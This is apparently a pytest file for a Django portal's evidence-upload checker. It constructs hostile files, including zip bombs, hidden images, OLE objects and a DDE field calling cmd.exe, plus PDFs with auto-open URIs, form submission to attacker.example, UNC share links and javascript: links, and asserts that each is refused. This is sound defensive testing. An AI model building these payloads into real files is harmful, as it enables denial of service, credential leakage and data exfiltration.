"""Hostile evidence files (issue 13): zip bombs, pictures hidden by name or place, active and oversized PDFs.

Every file is built here from bytes; each refusal names its rule, and ordinary documents still pass.
"""

from __future__ import annotations

import io
import random
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from assessments.evidence import EvidenceRefused, detect_document
from assessments.models import Assessment, Evidence
from portal.models import User
from tests.assessments import hostile_corpus as corpus
from tests.assessments.hostile_corpus import docx, odt, pdf_file, pdf_stream

MB = 1024 * 1024
TOO_LARGE = "Unpacked, this file holds more than"
ZIP_BOMB = 'compressed far more tightly than ordinary documents are (a "zip bomb")'
METHOD = "compression method that office programs do not use"
DAMAGED_OFFICE = "looks like an office document but is damaged"
LAYOUT = "holds data outside its parts"
PARTS = "parts, far more than ordinary documents have"
EMBEDDED_IMAGES = "This document contains embedded images"
EMBEDDED_OBJECTS = "This document contains embedded objects"
EXTERNAL = "fetches content from elsewhere"
MACROS = "This document contains macros or scripts"
IMAGES = "Images and video are never accepted"
PDF_FILES = "This PDF carries embedded files"
TRAILING = "This PDF has other data attached after its end"
ACTS = "This PDF acts by itself when it is opened or viewed"
FORM = "form actions that send or fetch data"
UNC = "links to a file on a network share"
COMPLEX = "cannot be checked within safe limits"
MARKUP = "web page or XML markup"


def content_types_bomb() -> bytes:
    """The reported bomb: [Content_Types].xml, read whole by the old sniffer, unpacks to 200 MB."""
    parts = corpus.docx_parts()
    del parts["[Content_Types].xml"]
    size = 200 * MB
    return corpus.zip_with_raw_part(
        parts, "[Content_Types].xml", corpus.zeros_deflated(size), size, corpus.zeros_crc(size)
    )


def lying_sizes() -> bytes:
    """A part that declares 1 KiB (with the checksum of 1 KiB) but whose data unpacks to 100 MB."""
    return corpus.zip_with_raw_part(
        corpus.docx_parts(), "word/media/blob", corpus.zeros_deflated(100 * MB), 1024, corpus.zeros_crc(1024)
    )


def tight_part() -> bytes:
    """An 8 MB part squeezed 1000:1: within the size limits, beyond any ordinary document's compression."""
    return corpus.zip_with_raw_part(
        corpus.docx_parts(), "word/padding.xml", corpus.zeros_deflated(8 * MB), 8 * MB, corpus.zeros_crc(8 * MB)
    )


def shared_data() -> bytes:
    """Two directory entries pointing at the same part's data, the trick behind the smallest zip bombs."""
    content = docx()
    directory_at = struct.unpack("<I", content[-6:-2])[0]
    first = content[directory_at:]
    record = first[: 46 + struct.unpack("<H", first[28:30])[0]]
    twin = record[:46] + b"x" * (len(record) - 46)
    count = struct.unpack("<H", content[-12:-10])[0] + 1
    size = struct.unpack("<I", content[-10:-6])[0] + len(twin)
    end = content[-22:-14] + struct.pack("<HHI", count, count, size) + content[-6:]
    return content[:-22] + twin + end


def newer_zip_version() -> bytes:
    """A part that needs ZIP 9.9 to be read: zipfile refuses the archive with NotImplementedError."""
    content = bytearray(docx())
    entry = content.index(b"PK\x01\x02")
    content[entry + 6 : entry + 8] = struct.pack("<H", 99)  # version needed to extract
    return bytes(content)


def many_parts() -> bytes:
    return docx({f"word/part{index}.xml": b"<p/>" for index in range(5000)})


def external_relationship(kind: str) -> bytes:
    rels = corpus.DOCUMENT_RELS.replace(
        b"</Relationships>",
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
        b'Target="https://attacker.example/x" TargetMode="External"/></Relationships>' % kind.encode(),
    )
    return docx({"word/_rels/document.xml.rels": rels})


def document_with(xml: bytes) -> bytes:
    return docx({"word/document.xml": corpus.DOCUMENT.replace(b"</w:body>", xml + b"</w:body>")})


def inline_image_form(compressed: bool) -> bytes:
    drawing = b"q 10 0 0 10 0 0 cm BI /W 1 /H 1 /CS /G /BPC 8 ID \x80 EI Q"
    data, filters = (zlib.compress(drawing), b"/Filter /FlateDecode") if compressed else (drawing, b"")
    form = pdf_stream(b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] " + filters, data)
    return pdf_file(form, resources=b"/XObject << /Fm1 5 0 R >>", contents=b"q /Fm1 Do Q")


def orphan_stream(data: bytes) -> bytes:
    """A compressed stream that no page uses and no cross-reference lists: still bytes in the file."""
    orphan = b"99 0 obj\n" + pdf_stream(b"/Filter /FlateDecode", zlib.compress(data)) + b"\nendobj\n"
    return corpus.insert_before_xref(pdf_file(), orphan)


def link(action: bytes) -> bytes:
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A %s >>" % action
    return pdf_file(annotation, page_extra=b"/Annots [5 0 R]")


def ascii85_stream(data: bytes) -> bytes:
    import base64

    encoded = base64.a85encode(zlib.compress(data)) + b"~>"
    return pdf_file(pdf_stream(b"/Filter [/ASCII85Decode /FlateDecode]", encoded))


def pdf_bomb() -> bytes:
    """A content stream that unpacks to 80 MB: beyond pypdf's 75 MB limit, which made the upload a server error."""
    return pdf_file(contents_object=pdf_stream(b"/Filter /FlateDecode", corpus.zeros_flate(80 * MB)))


REFUSED: list[tuple[str, Callable[[], bytes], str]] = [
    # Finding 1: zip bombs and archive tricks.
    ("docx [Content_Types].xml unpacking to 200 MB", content_types_bomb, TOO_LARGE),
    (
        "odt mimetype unpacking to 100 MB",
        lambda: corpus.zip_with_raw_part(
            {}, "mimetype", corpus.zeros_deflated(100 * MB), 100 * MB, corpus.zeros_crc(100 * MB)
        ),
        TOO_LARGE,
    ),
    ("docx part squeezed 1000:1", tight_part, ZIP_BOMB),
    ("docx packed with bzip2", lambda: corpus.office_zip(corpus.docx_parts(), zipfile.ZIP_BZIP2), METHOD),
    ("docx packed with lzma", lambda: corpus.office_zip(corpus.docx_parts(), zipfile.ZIP_LZMA), METHOD),
    ("docx part lying about its size", lying_sizes, DAMAGED_OFFICE),
    ("docx part needing a newer ZIP version", newer_zip_version, DAMAGED_OFFICE),
    ("docx with 5000 parts", many_parts, PARTS),
    ("docx with two entries sharing data", shared_data, LAYOUT),
    ("docx with a picture appended", lambda: docx() + corpus.png(), LAYOUT),
    # Finding 2: pictures hidden in office documents.
    ("docx picture named .bin", lambda: docx({"word/media/image1.bin": corpus.png()}), EMBEDDED_IMAGES),
    ("docx picture named .jfif", lambda: docx({"word/media/image1.jfif": corpus.jpeg()}), EMBEDDED_IMAGES),
    ("docx picture without extension", lambda: docx({"word/media/image1": corpus.jpeg()}), EMBEDDED_IMAGES),
    ("docx picture under customXml", lambda: docx({"customXml/item9": corpus.gif()}), EMBEDDED_IMAGES),
    ("docx WebP under a neutral name", lambda: docx({"word/glossary": corpus.webp()}), EMBEDDED_IMAGES),
    ("docx HEIC under a neutral name", lambda: docx({"word/glossary": corpus.heic()}), EMBEDDED_IMAGES),
    ("docx BMP under a neutral name", lambda: docx({"word/glossary": corpus.bmp()}), EMBEDDED_IMAGES),
    ("docx TIFF under a neutral name", lambda: docx({"word/glossary": corpus.tiff()}), EMBEDDED_IMAGES),
    (
        "docx picture inside another part",
        lambda: docx({"word/fontTable.xml": b"<w:fonts/>" + corpus.png()}),
        EMBEDDED_IMAGES,
    ),
    (
        "docx picture as base64 in the XML",
        lambda: document_with(b"<w:binData>" + corpus.base64_png() + b"</w:binData>"),
        EMBEDDED_IMAGES,
    ),
    ("docx OLE embedding", lambda: docx({"word/embeddings/oleObject1.bin": corpus.ole()}), EMBEDDED_OBJECTS),
    ("docx OLE under a neutral name", lambda: docx({"word/settings2.dat": corpus.ole()}), EMBEDDED_OBJECTS),
    ("docx embedded workbook", lambda: docx({"word/package": corpus.office_zip({"a.xml": b"<a/>"})}), EMBEDDED_OBJECTS),
    (
        "docx OLE object element",
        lambda: document_with(b'<w:object><o:OLEObject ProgID="Excel.Sheet"/></w:object>'),
        EMBEDDED_OBJECTS,
    ),
    ("docx linked picture", lambda: external_relationship("image"), EXTERNAL),
    ("docx remote template", lambda: external_relationship("attachedTemplate"), EXTERNAL),
    ("docx DDE field", lambda: document_with(b'<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"/>'), MACROS),
    (
        "xlsx picture named .dat",
        lambda: corpus.office_zip(
            {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", "xl/media/x.dat": corpus.png()}
        ),
        EMBEDDED_IMAGES,
    ),
    ("odt picture without extension", lambda: odt(extra={"Pictures/100000000000": corpus.jpeg()}), EMBEDDED_IMAGES),
    (
        "odt picture as base64 in content.xml",
        lambda: odt(
            b"<draw:frame><draw:image><office:binary-data>"
            + corpus.base64_png()
            + b"</office:binary-data></draw:image></draw:frame>"
        ),
        EMBEDDED_IMAGES,
    ),
    ("odt SVG under a neutral name", lambda: odt(extra={"Pictures/drawing": corpus.SVG}), EMBEDDED_IMAGES),
    # Finding 2: pictures hidden in PDFs.
    ("pdf inline image in a form XObject", lambda: inline_image_form(compressed=False), EMBEDDED_IMAGES),
    ("pdf inline image in a compressed form XObject", lambda: inline_image_form(compressed=True), EMBEDDED_IMAGES),
    (
        "pdf JPEG in a compressed non-image stream",
        lambda: pdf_file(pdf_stream(b"/Filter /FlateDecode", zlib.compress(b"glyphs" + corpus.jpeg()))),
        EMBEDDED_IMAGES,
    ),
    (
        "pdf PNG in an uncompressed non-image stream",
        lambda: pdf_file(pdf_stream(b"/Type /Metadata", b"<x>" + corpus.png() + b"</x>")),
        EMBEDDED_IMAGES,
    ),
    ("pdf PNG behind two filters", lambda: ascii85_stream(corpus.png()), EMBEDDED_IMAGES),
    ("pdf PNG in an orphan stream", lambda: orphan_stream(corpus.png()), EMBEDDED_IMAGES),
    (
        "pdf image stream without /Subtype",
        lambda: pdf_file(pdf_stream(b"/Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray", b"\x80")),
        EMBEDDED_IMAGES,
    ),
    (
        "pdf DCT stream calling itself a form",
        lambda: pdf_file(pdf_stream(b"/Type /XObject /Subtype /Form /Filter /DCTDecode", corpus.jpeg())),
        EMBEDDED_IMAGES,
    ),
    ("pdf page thumbnail", lambda: pdf_file(pdf_stream(b"", b"\x00"), page_extra=b"/Thumb 5 0 R"), EMBEDDED_IMAGES),
    ("pdf PNG after %%EOF", lambda: pdf_file() + corpus.png(), TRAILING),
    ("pdf ZIP appended", lambda: pdf_file() + corpus.office_zip({"a.txt": b"x"}), TRAILING),
    (
        "pdf ZIP in an unused uncompressed stream",
        lambda: corpus.insert_before_xref(
            pdf_file(), b"99 0 obj\n" + pdf_stream(b"", corpus.office_zip({"a.txt": b"x"})) + b"\nendobj\n"
        ),
        PDF_FILES,
    ),
    # Finding 2: active PDF content.
    (
        "pdf XFA form",
        lambda: pdf_file(pdf_stream(b"", b"<xdp:xdp/>"), catalog_extra=b"/AcroForm << /Fields [] /XFA 5 0 R >>"),
        "XFA form",
    ),
    (
        "pdf /OpenAction URI",
        lambda: pdf_file(catalog_extra=b"/OpenAction << /S /URI /URI (https://attacker.example/) >>"),
        ACTS,
    ),
    (
        "pdf /OpenAction GoToR",
        lambda: pdf_file(catalog_extra=b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
        ACTS,
    ),
    (
        "pdf page /AA URI",
        lambda: pdf_file(page_extra=b"/AA << /O << /S /URI /URI (https://attacker.example/) >> >>"),
        ACTS,
    ),
    (
        "pdf /OpenAction URI in an object stream",
        lambda: corpus.pdf_with_object_stream(b"/OpenAction << /S /URI /URI (https://attacker.example/) >>"),
        ACTS,
    ),
    (
        "pdf /OpenAction chained by /Next",
        lambda: pdf_file(
            catalog_extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.example/) >> >>"
        ),
        ACTS,
    ),
    ("pdf SubmitForm", lambda: link(b"<< /S /SubmitForm /F (https://attacker.example/collect) >>"), FORM),
    ("pdf ImportData", lambda: link(b"<< /S /ImportData /F (data.fdf) >>"), FORM),
    ("pdf UNC link", lambda: link(b"<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\x) >>"), UNC),
    ("pdf file: link", lambda: link(b"<< /S /URI /URI (file:///C:/Windows/system.ini) >>"), UNC),
    ("pdf UNC GoToR", lambda: link(b"<< /S /GoToR /F (//attacker.example/share/x.pdf) /D [0 /Fit] >>"), UNC),
    ("pdf javascript: link", lambda: link(b"<< /S /URI /URI (javascript:alert(1)) >>"), "JavaScript"),
    (
        "pdf movie annotation",
        lambda: pdf_file(b"<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] >>", page_extra=b"/Annots [5 0 R]"),
        "multimedia",
    ),
    # Finding 11: a PDF beyond pypdf's decompression limit.
    ("pdf content stream unpacking to 80 MB", pdf_bomb, TOO_LARGE),
    ("pdf arrays nested 100 000 deep", lambda: pdf_file(b"[" * 100_000 + b"]" * 100_000), COMPLEX),
    ("pdf with 60 000 objects", lambda: pdf_file(*[b"<< /N %d >>" % index for index in range(60_000)]), COMPLEX),
    (
        "pdf flooded with obj keywords",
        lambda: corpus.insert_before_xref(pdf_file(), b"%" + b" obj" * 250_000 + b"\n"),
        COMPLEX,
    ),
    (
        "pdf flooded with endstream keywords",
        lambda: corpus.insert_before_xref(pdf_file(), b"%" + b"endstream" * 250_000 + b"\n"),
        COMPLEX,
    ),
    # Finding 2: text files that are markup or images.
    ("txt sixel graphics", lambda: b"logo: \x1bPq#0;2;0;0;0#0~~@@vv@@~~$-\x1b\\\n", IMAGES),
    ("txt SVG after 4 KB of padding", lambda: b"x" * 4096 + b"\n" + corpus.SVG, IMAGES),
    ("txt XPM", lambda: corpus.XPM, IMAGES),
    ("txt PBM", lambda: corpus.PBM, IMAGES),
    ("txt PGM", lambda: corpus.PGM, IMAGES),
    ("txt PPM (binary pixels)", lambda: corpus.PPM, IMAGES),
    ("txt data: URI", lambda: b"logo: data:image/png;base64," + corpus.base64_png(), IMAGES),
    ("csv with a base64 PNG", lambda: b"name,logo\nA," + corpus.base64_png() + b"\n", IMAGES),
    ("txt HTML page", lambda: b"<!DOCTYPE html><html><body><img src=x></body></html>", MARKUP),
    ("txt HTML page after padding", lambda: b"notes\n" * 1000 + b"<html><body>x</body></html>", MARKUP),
    ("txt XML", lambda: b'<?xml version="1.0"?><policy>x</policy>', MARKUP),
    ("txt RTF", lambda: b"{\\rtf1\\ansi {\\pict\\pngblip 89504e47}}", "not an accepted document"),
]


@pytest.mark.parametrize(("build", "message"), [case[1:] for case in REFUSED], ids=[case[0] for case in REFUSED])
def test_hostile_files_are_refused_with_their_own_reason(build: Callable[[], bytes], message: str) -> None:
    with pytest.raises(EvidenceRefused) as refused:
        detect_document(build())
    assert message in str(refused.value)


def zip_bombs() -> list[bytes]:
    return [
        content_types_bomb(),
        lying_sizes(),
        tight_part(),
        corpus.office_zip(corpus.docx_parts(), zipfile.ZIP_BZIP2),
    ]


def test_zip_bombs_are_refused_without_unpacking_them() -> None:
    for bomb in zip_bombs():
        tracemalloc.start()
        with pytest.raises(EvidenceRefused):
            detect_document(bomb)
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert peak < 16 * MB


@pytest.mark.django_db
def test_a_pdf_beyond_the_decompression_limit_is_a_refusal_not_a_server_error(
    client_for: Callable[[User], Client], editor_a: User, draft_a: Assessment
) -> None:
    url = f"/assessments/{draft_a.pk}/answers/KYC-1/evidence/"
    upload = SimpleUploadedFile("policy.pdf", pdf_bomb(), content_type="application/pdf")
    response = client_for(editor_a).post(url, {"file": upload}, follow=True)
    assert response.status_code == 200
    assert list(response.context["messages"]) == []  # the refusal is at the question, not at the top
    [shown] = [item["evidence_error"] for item in response.context["items"] if item.get("evidence_error")]
    assert shown.startswith("the document was refused.") and TOO_LARGE in shown
    assert not Evidence.objects.exists()


def xlsx() -> bytes:
    sheet = b'<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'
    return corpus.office_zip(
        {
            "[Content_Types].xml": corpus.CONTENT_TYPES,
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def reportlab_report() -> bytes:
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4, pageCompression=1)
    for page in range(30):
        pdf.bookmarkPage(f"p{page}")
        pdf.addOutlineEntry(f"Section {page}", f"p{page}")
        for line in range(50):
            pdf.drawString(72, 800 - line * 14, f"Section {page}, line {line}: notices handled within the norm.")
        pdf.linkURL("https://hoster-a.example/policy", (72, 60, 300, 80))
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def random_font_stream() -> bytes:
    """3 MB of seeded noise in a compressed stream: like an embedded font, not to be mistaken for a picture."""
    noise = random.Random(13).randbytes(3 * MB)
    return pdf_file(pdf_stream(b"/Length1 %d /Filter /FlateDecode" % len(noise), zlib.compress(noise)))


ACCEPTED: list[tuple[str, Callable[[], bytes], str]] = [
    ("word document with a hyperlink", docx, "docx"),
    ("spreadsheet", xlsx, "xlsx"),
    ("text document with scripts element", lambda: odt(b"<text:p>Zie bijlage.</text:p>"), "odt"),
    ("plain pdf", pdf_file, "pdf"),
    ("pdf with a web link and an opening view", lambda: pdf_file(catalog_extra=b"/OpenAction [3 0 R /Fit]"), "pdf"),
    ("pdf with a clickable link", lambda: link(b"<< /S /URI /URI (https://hoster-a.example/abuse) >>"), "pdf"),
    ("pdf with object and cross-reference streams", corpus.pdf_with_object_stream, "pdf"),
    ("reportlab report with links and outline", reportlab_report, "pdf"),
    ("pdf with a large noisy stream", random_font_stream, "pdf"),
    ("text that starts like a Netpbm header", lambda: b"P1 1 4 hours: first response\nP2 4 24 hours\n", "txt"),
    ("text that mentions GIF89a", lambda: b"GIF89a images, PNG and JPEG are refused.\n", "txt"),
    ("text that mentions a tag", lambda: b"Escape <b> and <script> before showing input.\n", "txt"),
    # Inputs that once made a pattern backtrack for minutes: answered at once now.
    ("text with P1 and a long run of blanks", lambda: b"P1" + b" \t" * 5000 + b"x\n", "txt"),
    ("csv whose lines stall csv.Sniffer", lambda: (b',"' * 20_000 + b"\n") * 3, "csv"),
]


@pytest.mark.parametrize(("build", "kind"), [case[1:] for case in ACCEPTED], ids=[case[0] for case in ACCEPTED])
def test_ordinary_documents_are_still_accepted(build: Callable[[], bytes], kind: str) -> None:
    assert detect_document(build()).kind == kind


DAMAGEABLE = [pdf_file(), corpus.pdf_with_object_stream(), docx(), odt(), b"month,checks\n2025-01,120\n"]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(DAMAGEABLE),
    st.lists(st.tuples(st.floats(0, 1), st.binary(min_size=1, max_size=12), st.booleans()), min_size=1, max_size=6),
)
def test_damaged_files_get_an_answer_never_a_server_error(
    document: bytes, edits: list[tuple[float, bytes, bool]]
) -> None:
    damaged = bytearray(document)
    for where, data, insert in edits:
        at = int(where * len(damaged))
        damaged[at : at if insert else at + len(data)] = data
    try:
        detect_document(bytes(damaged))
    except EvidenceRefused as refusal:
        assert str(refusal)
